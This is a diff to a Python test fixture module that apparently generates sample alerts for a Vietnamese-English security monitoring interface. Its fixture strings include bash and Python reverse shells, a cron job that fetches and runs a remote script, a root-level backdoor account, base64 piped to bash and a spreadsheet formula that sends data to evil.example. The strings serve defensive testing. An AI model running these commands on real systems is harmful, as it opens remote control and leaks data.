@@ -14,7 +14,7 @@ TRICKS: dict[str, str] = {
     "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} {@html alert(1)}",
     "rtl": "sh -c \u202e'hs.llehs esrever' \u2066# innocent\u2069 \u200b\u200bend",
     "ansi": "\x1b[2J\x1b[1;31mls\x1b[0m\x1b]0;owned\x07 -la \x00\x08\x7f\x9b31m",
-    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") @SUM(1) +1 -1",
+    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click") @SUM(1) +1 -1',
     "arabic": "cat /srv/تقرير/الميزانية.txt && echo שלום",
     "zalgo": "l" + "\u0336\u0337\u0338" * 40 + "s",
     "lines": "python3 - <<'X'\nimport os\n\tos.system('id')\r\nX",
@@ -26,13 +26,13 @@ TRICKS: dict[str, str] = {
 COMMANDS = [
     "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",
     "/bin/sh -c echo '* * * * * root curl -fsSL http://198.51.100.7/a.sh | sh' > /etc/cron.d/sysupd",
-    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.7\",443));"
-    "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'",
+    'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",443));'
+    'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\'',
     "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash backup2",
     "Failed password for invalid user admin from 203.0.113.45 port 51622 ssh2",
     "find / -perm -4000 -type f -exec ls -la {} ;",
     "base64 -d <<< aWQ7dW5hbWUgLWE= | bash",
-    "sudo: ketoan : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/ketoan ; USER=root ; COMMAND=/usr/bin/su",
+    "ketoan : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/ketoan ; USER=root ; COMMAND=/bin/su",
 ]
 
 RULES: list[tuple[str, str, str]] = [
@@ -46,7 +46,13 @@ RULES: list[tuple[str, str, str]] = [
     ("Nhập sai mật khẩu sudo nhiều lần", "Repeated sudo failures", "informational"),
 ]
 
-HOSTS = ["cong-dich-vu-01", "vp-ubnd-xa-hoa-binh", "sokhcn-web2", "ketoan-pc7", "may-chu-thu-dien-tu-du-phong-02.tinh.local"]
+HOSTS = [
+    "cong-dich-vu-01",
+    "vp-ubnd-xa-hoa-binh",
+    "sokhcn-web2",
+    "ketoan-pc7",
+    "may-chu-thu-dien-tu-du-phong-02.tinh.local",
+]
 USERS = ["root", "www-data", "nguyen.van.an", "ketoan", ""]
 
 RULE_SOURCE = """title: {title}
@@ -78,7 +84,9 @@ tags:
 """
 
 
-def alert(number: int, *, summary: str | None = None, host: str | None = None, user: str | None = None) -> dict[str, Any]:
+def alert(
+    number: int, *, summary: str | None = None, host: str | None = None, user: str | None = None
+) -> dict[str, Any]:
     """A whole alert (row and detail), the same for the same number."""
     chance = random.Random(number)
     vi, en, level = RULES[number % len(RULES)]
@@ -102,11 +110,13 @@ def alert(number: int, *, summary: str | None = None, host: str | None = None, u
         "last_us": last,
         "received_us": last + 300_000,
         "detected_us": last + 420_000,
+        "source_first_us": last - 3_602_000_000,
+        "source_last_us": last - 2_000_000,
         "summary": command,
         "tags": ["attack.execution", "attack.t1059.004"],
         "version": 1,
         "descriptions": {
-            "vi": "Một trình thông dịch lệnh có đầu vào và đầu ra nối với cổng mạng: kẻ tấn công điều khiển máy từ xa.",
+            "vi": "Một trình thông dịch lệnh có đầu vào và đầu ra nối với mạng: có kẻ điều khiển máy từ xa.",
             "en": "A shell with its input and output on a network socket: someone controls the machine from afar.",
         },
         "falsepositives": ["Quản trị viên thử kết nối", "Administrators testing a connection"],
